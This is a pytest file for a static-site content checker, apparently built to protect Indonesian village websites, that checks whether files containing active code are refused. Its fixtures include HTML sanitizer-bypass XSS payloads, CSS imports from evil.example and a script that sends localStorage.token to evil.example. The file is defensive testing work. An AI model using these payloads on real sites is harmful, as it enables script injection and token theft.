"""Static files as a browser reads them: HTML that Python's html.parser reads otherwise than
a browser (browser_html.py), markup under any extension (markup.py), and the leftovers of
operating systems and editors, which are never published."""

import pytest

from content_guard import browser_html, markup
from content_guard.static_files import HINT_HTML, problems
from tests.hostile.hostile import article, assert_refused, check_content, write_tree
from tests.sitetools import build_site

RUN = '<img src="x" onerror="fetch(\'/b\')">'
# Each ran fetch('/b') in Chromium when published; html.parser saw nothing active in them.
BYPASSES = {
    "files/komentar.html": f"<p>Pengumuman</p>\n<!--> {RUN} -->\n",
    "files/svg-gaya.html": f"<p>Pengumuman</p>\n<svg><style>{RUN}</style></svg>\n",
    "files/cdata.html": f"<p>Pengumuman</p>\n<![CDATA[ x >{RUN} ]]>\n",
    "files/math-gaya.htm": f"<p>Pengumuman</p>\n<math><style>{RUN}</style></math>\n",
}
# file -> (text, line, words of the message): markup under other names, and what only a
# browser's reading shows.
REFUSED = {
    **{name: (text, 2, ["onerror=", "<img>"]) for name, text in BYPASSES.items()},
    "files/skema.xsd": (
        '<?xml version="1.0"?>\n<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">\n'
        '<html:script xmlns:html="http://www.w3.org/1999/xhtml">fetch("/b")</html:script>\n'
        "</xs:schema>\n",
        3,
        ["berkas XML", "<script>"],
    ),
    "files/tata-bahasa.rng": (
        '<grammar xmlns="http://relaxng.org/ns/structure/1.0">\n<svg xmlns="http://www.w3.org/'
        '2000/svg" onload="fetch(\'/b\')"/>\n</grammar>\n',
        2,
        ["onload="],
    ),
    "extra/peta.kml": (
        '<kml xmlns="http://www.opengis.net/kml/2.2">\n<?xml-stylesheet href="x.xsl"?>\n</kml>\n',
        2,
        ["<?xml-stylesheet?>"],
    ),
    "files/tanpa-akhiran": ("Catatan rapat\n<p>hadir</p>\n<script>fetch('/b')</script>\n", 3, []),
    "files/catatan.txt": (
        "Catatan rapat\n<!--> <svg><desc><script>fetch('/b')</script></desc></svg> -->\n",
        2,
        ["<script>"],
    ),
    "files/tautan.html": (
        '<p>Peta</p>\n<!-->\n<svg><a xlink:href="jav&#x09;ascript:fetch(1)"><text>x</text></a>'
        "</svg> -->\n",
        3,
        ["xlink:href", "javascript:"],
    ),
    # <body>'s attributes go onto the document's body, which a fragment parser drops.
    "files/badan.html": (
        "<p>Pengumuman</p>\n<!-->\n<body onload=\"fetch('/b')\"> -->\n",
        3,
        ["onload=", "<body>"],
    ),
    # A tag name ends at ASCII white space only: `<x\u00a0` is one name.
    "files/spasi.html": (
        "<p>Pengumuman</p>\n<!--> <x\u00a0 tabindex=1 autofocus onfocus=\"fetch('/b')\"> -->\n",
        2,
        ["onfocus="],
    ),
    "files/noscript.html": (
        '<noscript><p title="</noscript>\n<img src=x onerror=fetch(1)>"></noscript>\n',
        2,
        ["onerror="],
    ),
    "files/portal.html": (
        '<p>Peta</p>\n<!-->\n<portal src="https://evil.example/"></portal> -->\n',
        3,
        ["<portal>"],
    ),
    # Stylesheets, loaded by the HTML files beside them.
    "extra/gaya.css": (
        "body { color: #222 }\n@import url(https://evil.example/x.css);\n",
        2,
        ["berkas CSS", "@import"],
    ),
    "extra/latar.css": (
        "p {\n  background: url('javascript:fetch(1)');\n}\n",
        2,
        ["berkas CSS", "javascript:"],
    ),
    # Escapes and comments as a browser reads them; an address over two lines.
    "extra/samar.css": (
        "p { color: red }\n@\\69mport url(https://evil.example/x.css);\n",
        2,
        ["berkas CSS", "@import"],
    ),
    "extra/dua-baris.css": (
        "p {\n  background: url(\n    'javascript:fetch(1)'\n  );\n}\n",
        2,
        ["berkas CSS", "javascript:"],
    ),
}
# file -> (text, line, words of the message): gambling text or reversed letters a stylesheet shows.
SPAM_IN_CSS = {
    "extra/isi.css": (
        'a::after { content: "slot gacor maxwin" }\n',
        1,
        ["teks promosi judi", "slot gacor"],
    ),
    "extra/isi-samar.css": (
        'p { margin: 0 }\na::after { content: "\\73\\6c\\6f\\74 \\67\\61\\63\\6f\\72" }\n',
        2,
        ["teks promosi judi", "slotgacor"],  # an escape ends at its space
    ),
    "extra/terbalik.css": (
        'a::after { content: "\\202E rocag tols" }\n',
        1,
        ["huruf dibuat tampil terbalik"],
    ),
}
SCRIPT_FILES = {
    "images/evil.js": ("fetch('https://evil.example/?t=' + localStorage.token)\n", 1, []),
    "files/sw.js": (
        "self.addEventListener('fetch', e => e.respondWith(fetch(e.request)))\n",
        1,
        [],
    ),
    "extra/alat.mjs": ("export const x = 1;\n" + "a<b;\n" * 150, 1, []),  # many `<`: still a script
    "files/modul.wasm": ("\0asm\x01\0\0\0", 1, []),
    "files/lama.es": ("alert(1)\n", 1, []),  # application/ecmascript on GitHub Pages
}
REPORT = (
    '<!doctype html>\n<html lang="id">\n<head>\n<meta charset="utf-8">\n'
    "<title>Laporan Realisasi APBDes 2024</title>\n"
    "<style>table { border-collapse: collapse } td, th { border: 1px solid #999 }</style>\n"
    "</head>\n<body>\n<h1>Laporan Realisasi APBDes 2024</h1>\n<h2>Pendapatan</h2>\n"
    '<table>\n<thead><tr><th scope="col">Uraian</th><th>Anggaran (Rp)</th></tr></thead>\n'
    '<tbody><tr><td>Dana Desa</td><td align="right">850.000.000</td></tr>\n'
    '<tr><td colspan="2"><em>Sumber: APBN</em></td></tr></tbody>\n</table>\n'
    '<p>Rincian di <a href="https://jdih.kemendesa.go.id/">JDIH</a> dan '
    '<a href="mailto:pemdes@binangun.desa.id">surel desa</a>.</p>\n'
    '<p><img src="../images/balai.jpg" alt="Balai desa" width="320"></p>\n'
    '<svg viewBox="0 0 10 10" width="10"><rect width="10" height="10" fill="#15643c"/></svg>\n'
    "</body>\n</html>\n"
)
CLEAN = {
    "files/google1234abcd.html": "google-site-verification: google1234abcd.html",
    "files/laporan-apbdes.html": REPORT,
    "files/data.csv": "umur,jumlah\n<5 tahun,12\n5-17 tahun,40\n",
    # Markup by its content, but not served as HTML: an element no browser knows is text.
    "files/usia.csv": "kelompok,jumlah\n<lima tahun,12\n",
    "extra/jalur.gpx": '<?xml version="1.0"?>\n<gpx version="1.1" creator="desa">'
    '<trk><name>Jalur sehat</name><link href="https://binangun.desa.id/"/></trk></gpx>\n',
    # A stylesheet as sites and office programs write them: hiding menus for print, an SVG
    # arrow and a font as data: addresses.
    "extra/laporan.css": "table { border-collapse: collapse }\n"
    "td { background: url(../images/balai.jpg) no-repeat }\n"
    "[hidden] { display: none !important }\n"
    "@media print { nav, .tombol { display: none } }\n"
    ".lipat { height: 0; overflow: hidden } .redup { opacity: 0 }\n"
    "select { background-image: url(\"data:image/svg+xml,%3csvg xmlns='http://www.w3.org/2000/"
    "svg'%3e%3c/svg%3e\") }\n"
    "@font-face { font-family: Desa; src: url(data:application/font-woff;base64,d09GRgABAAA=) }\n"
    "/* Dibuat dengan LibreOffice */ @media (max-width: 600px) { td { font-size: 90% } }\n",
    # A known binary kind is never read as markup, whatever its bytes.
    "files/contoh.pdf": b"%PDF-1.4\n<script>not html</script>\n",
}


@pytest.mark.parametrize("name", BYPASSES)
def test_html_parser_bypasses_are_found_as_a_browser_reads_them(name):
    errors = [str(e) for e in problems(name, BYPASSES[name])]
    assert len(errors) == 1, errors
    assert errors[0].startswith(f"{name}:2: berkas HTML berisi kode aktif: atribut onerror=")
    assert errors[0].endswith(HINT_HTML)


def test_the_browser_check_finds_nothing_in_ordinary_html():
    assert browser_html.problems(REPORT) == []
    assert browser_html.problems(CLEAN["files/google1234abcd.html"]) == []


def test_an_unknown_element_is_refused_rather_than_guessed():
    assert browser_html.problems("<p>Kepala desa</p>\n<!-->\n<nama>Budi</nama> -->") == [
        (3, "<nama> (elemen di luar daftar elemen aman)")
    ]


@pytest.mark.parametrize(
    "name, data, expected",
    [
        ("skema.xsd", b"\xef\xbb\xbf \n<xs:schema/>", True),
        ("catatan.txt", b"rapat <b>penting</b>", True),
        ("utf16.rng", "<grammar/>".encode("utf-16"), True),
        ("data.csv", b"umur\n<5 tahun\n", False),
        ("data.json", b'{"a": 1}', False),
        ("foto.png", b"<svg onload=x>", False),
        ("laporan.docx", b"PK\x03\x04<w:document>", False),
    ],
)
def test_markup_is_told_by_the_content_not_the_name(name, data, expected):
    assert markup.looks_like_markup(name, data) is expected


@pytest.fixture(scope="session")
def markup_errors(tmp_path_factory):
    files = {
        name: text for name, (text, _, _) in {**REFUSED, **SPAM_IN_CSS, **SCRIPT_FILES}.items()
    }
    files.update(CLEAN)
    files["berita/a.md"] = article()
    content = write_tree(tmp_path_factory.mktemp("markup-content"), files)
    errors, _ = check_content(content)
    return content, errors


@pytest.mark.parametrize("name", REFUSED)
def test_active_markup_is_refused_whatever_its_name(markup_errors, name):
    content, errors = markup_errors
    _, line, words = REFUSED[name]
    assert_refused(errors, content, name, line, "kode aktif", *words)


@pytest.mark.parametrize("name", SPAM_IN_CSS)
def test_a_stylesheet_that_hides_or_shows_spam_is_refused(markup_errors, name):
    content, errors = markup_errors
    _, line, words = SPAM_IN_CSS[name]
    assert_refused(errors, content, name, line, *words)


@pytest.mark.parametrize("name", SCRIPT_FILES)
def test_a_script_file_is_never_published(markup_errors, name):
    """A script on the village's domain passes the policy's `script-src 'self'` (and a
    service worker would control the site): refused by its name, whatever it holds."""
    content, errors = markup_errors
    assert_refused(
        errors, content, name, 1, "berkas skrip tidak boleh diterbitkan", "theme/ atau overrides/"
    )


def test_ordinary_files_raise_nothing(markup_errors):
    content, errors = markup_errors
    assert not [e for e in errors if any(name in e for name in CLEAN)], errors


@pytest.fixture(scope="session")
def clean_site(tmp_path_factory):
    content = write_tree(tmp_path_factory.mktemp("markup-ok"), {**CLEAN, "berita/a.md": article()})
    return build_site(tmp_path_factory.mktemp("markup") / "output", content=content)


def test_ordinary_files_are_published_unchanged(clean_site):
    for name, data in CLEAN.items():
        published = (clean_site.output / name).read_bytes()
        assert published == (data if isinstance(data, bytes) else data.encode("utf-8"))


# Windows, macOS, vim, Word and LibreOffice leave these beside a village's files.
LEFTOVERS = {
    "images/Thumbs.db": b"\xd0\xcf\x11\xe0 thumbnails",
    "images/desktop.ini": "[.ShellClassInfo]\r\nIconResource=foto.ico\r\n",
    "images/.DS_Store": b"\x00\x00\x00\x01Bud1",
    "images/._balai.svg": b"\x00\x05\x16\x07 resource fork <script>",
    "images/.logo.svg.swp": b"b0VIM 9.0 <svg onload=x>",
    "images/logo.svg.swo": b"b0VIM 9.0",
    "files/laporan.html~": "<script>fetch('/b')</script>",
    "files/~$laporan.docx": b"\x0bBudi Santoso",
    "files/.~lock.laporan.xlsx#": "Budi Santoso,budi,desa-pc,05.12.2026 09:00,file:///home/budi;",
    "files/Desktop.ini": "[.ShellClassInfo]\r\n",
    "berita/rapat.md~": article("Salinan lama."),
    "berita/~$rapat.md": article("Salinan lama."),
    "pages/.DS_Store": b"\x00\x00\x00\x01Bud1",
}
KEPT = {
    "files/laporan.txt": "Laporan kegiatan desa.\n",
    "images/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect/></svg>',
}


@pytest.fixture(scope="session")
def leftover_sites(tmp_path_factory):
    files = {**LEFTOVERS, **KEPT, "berita/a.md": article()}
    content = write_tree(tmp_path_factory.mktemp("leftovers"), files)
    return (
        build_site(tmp_path_factory.mktemp("leftovers") / "output", content=content),
        # A site's own IGNORE_FILES keeps its patterns, and the kit's leftovers still count.
        build_site(
            tmp_path_factory.mktemp("leftovers-own") / "output",
            content=content,
            IGNORE_FILES=["*.yml", "laporan.txt"],
        ),
    )


def test_leftovers_are_never_published_nor_read(leftover_sites):
    site, own = leftover_sites
    for built in (site, own):
        published = {str(p.relative_to(built.output)) for p in built.output.rglob("*")}
        names = {name.rsplit("/", 1)[-1] for name in LEFTOVERS}
        assert not [p for p in published if p.rsplit("/", 1)[-1] in names]
        assert not [p for p in published if "Salinan lama" in _text(built.output / p)]
        assert (built.output / "images/logo.svg").is_file()
    assert (site.output / "files/laporan.txt").is_file()
    assert not (own.output / "files/laporan.txt").exists()


def _text(path):
    return path.read_text(encoding="utf-8", errors="replace") if path.is_file() else ""
